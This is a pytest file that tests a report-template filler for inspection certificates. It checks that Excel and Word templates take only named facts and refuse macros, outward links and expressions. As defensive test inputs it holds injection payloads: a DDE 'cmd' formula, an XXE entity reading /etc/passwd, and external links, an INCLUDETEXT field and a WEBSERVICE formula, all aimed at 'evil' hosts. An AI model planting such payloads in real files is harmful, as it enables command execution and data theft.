@@ -1,0 +1,207 @@
+"""Promise: a plant's template is filled with named facts and nothing else: no expression runs, what a fact says is never read
+as a template or formula, unknown names are told with their place, and files with macros or links outward do not come in."""
+
+import io
+
+import pytest
+import xlsxwriter
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from server.domains.reports import office, templates
+from server.domains.reports.facts import Company, Item, Lot, Signer, Stamp
+from server.domains.reports.facts import TestReport as Report
+from server.domains.reports.placeholders import allowed_by
+from server.domains.reports.problems import TemplateRefused
+from tests.fixtures.office import document, paragraph, parts_of, table_row, with_part, workbook
+
+ALLOWED = allowed_by(Report)
+STAMP = Stamp(
+    title="出厂检验报告", number="CJ2026-00001", version="1", issued="2026-03-02 10:00", issuer="甲", check_url="https://x/d/1",
+    open_url="", facts_digest="0" * 64,
+)  # fmt: skip
+
+
+def item(no: int, name: str = "铅", result: str = "0.012") -> Item:
+    return Item(
+        no=str(no), name=name, unit="mg/kg", requirement="≤ 0.05", result=result, method="GB 5009.12", verdict="合格"
+    )
+
+
+def report(lot_no: str = "20260301", items: int = 3, name: str = "铅") -> Report:
+    return Report(
+        company=Company(name="云岭果业", credit_code="91", address="", licences=""),
+        lot=Lot(lot_no=lot_no, product="苹果汁", product_code="P1", spec="1 L", brand="", standard="GB/T 31121", quantity="100 kg",
+                produced_on="2026-03-01", expires_on="2027-03-01", state="已放行"),
+        certificate_no="", tested_on="2026-03-02", report_nos="", items=[item(n, name) for n in range(1, items + 1)],
+        conclusion="合格", remarks=["一", "二"], signers=[Signer(role="检验", name="陶", at="")],
+    )  # fmt: skip
+
+
+def fill(data: bytes, facts: Report) -> bytes:
+    format, _ = templates.read_template(data, ALLOWED)
+    from server.core.ids import new_id
+
+    return templates.fill(templates.Template(new_id(), format, data), facts, STAMP)
+
+
+def codes(data: bytes) -> list[str]:
+    with pytest.raises(TemplateRefused) as refused:
+        templates.read_template(data, ALLOWED)
+    return [error.code for error in refused.value.errors]
+
+
+def test_cells_and_repeated_rows_of_a_sheet() -> None:
+    rows: list[list[str | None]] = [
+        ["检验报告 {{document.number}}", None, None],
+        ["批号", "{{lot.lot_no}}", None],
+        ["{{#items}}{{no}}", "{{name}}（{{unit}}）", "{{result}}{{/items}}"],
+        ["结论", "{{conclusion}}", None],
+        ["说明", "{{remarks}}", None],
+    ]
+    filled = fill(workbook(rows, ("B2:C2", "B4:C4")), report())
+    sheet = load_workbook(io.BytesIO(filled)).active
+    assert sheet is not None
+    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
+        ["检验报告 CJ2026-00001", None, None],
+        ["批号", "20260301", None],
+        [1, "铅（mg/kg）", 0.012],
+        [2, "铅（mg/kg）", 0.012],
+        [3, "铅（mg/kg）", 0.012],
+        ["结论", "合格", None],
+        ["说明", "一\n二", None],
+    ]
+    assert sheet["B2"].data_type == "s"  # a lot number of digits stays text
+    assert {str(each) for each in sheet.merged_cells.ranges} == {"B2:C2", "B6:C6"}
+    assert sheet["A1"].font.bold
+    assert fill(workbook([["{{lot.lot_no}}"]]), report()) == fill(workbook([["{{lot.lot_no}}"]]), report())
+
+
+def test_texts_that_cells_share_are_filled_cell_by_cell() -> None:
+    out = io.BytesIO()
+    book = xlsxwriter.Workbook(out)
+    sheet = book.add_worksheet()
+    sheet.write_rich_string(0, 0, book.add_format({"bold": True}), "批号 {{lot.", "lot_no}}")
+    for row in (1, 2):
+        sheet.write_string(row, 0, "{{lot.spec}}")
+    sheet.write_string(3, 0, "无")
+    book.close()
+    assert "xl/sharedStrings.xml" in parts_of(out.getvalue())
+    filled = fill(out.getvalue(), report())
+    assert b"{{" not in b"".join(parts_of(filled).values())
+    found = load_workbook(io.BytesIO(filled)).active
+    assert found is not None
+    assert [row[0].value for row in found.iter_rows()] == ["批号 20260301", "1 L", "1 L", "无"]
+
+
+def test_a_result_alone_in_its_cell_is_a_number() -> None:
+    rows = [["{{#items}}", "{{result}}", "{{/items}}"]]
+    sheet = load_workbook(io.BytesIO(fill(workbook(rows), report(items=1)))).active
+    assert sheet is not None
+    assert (sheet["B1"].value, sheet["B1"].data_type) == (0.012, "n")
+
+
+def test_an_empty_list_leaves_one_empty_row() -> None:
+    sheet = load_workbook(
+        io.BytesIO(fill(workbook([["{{#items}}{{name}}{{/items}}"], ["末"]]), report(items=0)))
+    ).active
+    assert sheet is not None
+    assert [row[0].value for row in sheet.iter_rows()] in ([None, "末"], ["", "末"])
+
+
+def test_paragraphs_and_table_rows_of_a_document() -> None:
+    body = (
+        paragraph("批号 {{lot.", "lot_no", "}} 完")  # as Word splits what was typed with pauses
+        + "<w:tbl>" + table_row("{{#items}}{{no}}", "{{name}} {{result}}{{/items}}") + "</w:tbl>" + paragraph("{{remarks}}")
+    )  # fmt: skip
+    xml = parts_of(fill(document(body), report(items=2)))["word/document.xml"].decode()
+    plain = "".join(office.parse(xml.encode()).itertext())
+    assert plain == "批号 20260301 完1铅 0.0122铅 0.012一二"
+    assert xml.count("<w:tr>") == 2
+    assert "<w:br/>" in xml
+    assert "<w:b/>" in xml
+
+
+HOSTILE = [
+    "{{lot.__class__}}", "{{lot.lot_no.upper}}", "{{document.__init__}}", "{{config}}", "{{items}}", "{{#lot}}", "{{parent.name}}",
+    "{{company.tenant_id}}",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_no_name_reaches_beyond_the_facts(name: str) -> None:
+    assert codes(workbook([["x", name]])) == ["template_placeholder_unknown"]
+    assert codes(document(paragraph(name))) == ["template_placeholder_unknown"]
+
+
+def test_every_unknown_name_is_told_with_its_place() -> None:
+    with pytest.raises(TemplateRefused) as refused:
+        templates.read_template(workbook([["{{lot.lot_no}}", "{{lot.number}}"], ["{{nobody}}"]]), ALLOWED)
+    found = [(error.params["name"], error.params["where"]) for error in refused.value.errors]
+    assert found == [("lot.number", "sheet1!B1"), ("nobody", "sheet1!A2")]
+
+
+@pytest.mark.parametrize(
+    "text", ["{{ 7*7 }}", "{% for x in y %}{{lot.lot_no}}", "{{lot.lot_no|upper}}", "{{lot.lot_no"]
+)
+def test_expressions_are_no_placeholders(text: str) -> None:
+    for data in (workbook([[text, "{{lot.spec}}"]]), document(paragraph(text) + paragraph("{{lot.spec}}"))):
+        if "{%" in text:  # nobody here reads it: it stays as it was typed
+            assert b"{% for x in y %}20260301" in b"".join(parts_of(fill(data, report())).values())
+        else:
+            assert codes(data) == ["template_placeholder_elsewhere"]
+
+
+@settings(derandomize=True, deadline=None, max_examples=60)
+@given(
+    st.text(min_size=1, max_size=40)
+    | st.sampled_from(["{{company.name}}", "=1+1", "=cmd|' /C calc'!A0", "<w:t>", "]]>", "&amp;"])
+)
+def test_what_a_fact_says_is_text_and_is_never_read_again(said: str) -> None:
+    filled = fill(workbook([["{{lot.lot_no}}"]]), report(lot_no=said))
+    cell = load_workbook(io.BytesIO(filled)).active["A1"]
+    expected = "".join(c if c.isprintable() or c == "\n" else " " for c in said)
+    assert cell.data_type == "s" or expected.strip() == ""
+    assert (cell.value or "") == expected
+    xml = parts_of(fill(document(paragraph("{{lot.lot_no}}")), report(lot_no=said)))["word/document.xml"]
+    assert "".join(office.parse(xml).itertext()) == expected.replace("\n", "")
+
+
+GOOD = workbook([["{{lot.lot_no}}"]])
+MACROS = b'<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
+OUTWARD = (
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
+    b'TargetMode="External" Type="http://x/attachedTemplate" Target="http://evil/"/></Relationships>'
+)
+ENTITY = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
+FIELD = paragraph("{{lot.lot_no}}") + "<w:p><w:r><w:instrText>INCLUDETEXT \\\\evil\\x</w:instrText></w:r></w:p>"
+
+
+@pytest.mark.parametrize(
+    ("data", "code"),
+    [
+        (b"%PDF-1.7", "template_not_office"),
+        (b"PK\x03\x04 nothing", "template_broken"),
+        (b"PK\x03\x04" + b"0" * office.MOST_BYTES, "template_too_large"),
+        (with_part(GOOD, "xl/vbaProject.bin", b"x"), "template_active_content"),
+        (with_part(GOOD, "[Content_Types].xml", MACROS), "template_active_content"),
+        (with_part(GOOD, "xl/embeddings/oleObject1.bin", b"x"), "template_active_content"),
+        (with_part(GOOD, "xl/externalLinks/externalLink1.xml", b"<a/>"), "template_active_content"),
+        (with_part(GOOD, "xl/_rels/more.xml.rels", OUTWARD), "template_reaches_out"),
+        (with_part(GOOD, "docProps/more.xml", ENTITY), "template_broken"),
+        (with_part(GOOD, "xl/big.xml", b"0" * (13 * 1024 * 1024)), "template_unpacks_too_large"),
+        (document(FIELD), "template_reaches_out"),
+        (workbook([["{{lot.lot_no}}", '=WEBSERVICE("http://evil/")']]), "template_reaches_out"),
+        (workbook([["无"]]), "template_without_placeholders"),
+        (workbook([["{{#items}}{{name}}{{/items}}"], ["=SUM(A1:A1)"]]), "template_rows_with_formulas"),
+    ],
+)
+def test_what_does_not_come_in(data: bytes, code: str) -> None:
+    assert codes(data) == [code]
+
+
+def test_formulas_that_stay_where_they_are_keep_working() -> None:
+    sheet = load_workbook(io.BytesIO(fill(workbook([["{{lot.lot_no}}", "=1+1"]]), report()))).active
+    assert sheet is not None
+    assert sheet["B1"].value == "=1+1"
